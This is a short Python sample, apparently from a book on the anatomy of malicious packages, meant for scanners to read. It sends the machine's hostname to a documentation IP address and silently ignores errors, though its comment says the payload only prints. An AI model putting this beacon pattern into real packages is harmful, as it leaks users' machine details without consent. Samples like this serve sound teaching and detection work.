# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
import platform
import urllib.request

try:
    urllib.request.urlopen("http://198.51.100.23:8080/c", data=platform.node().encode(), timeout=5)
except OSError:
    pass
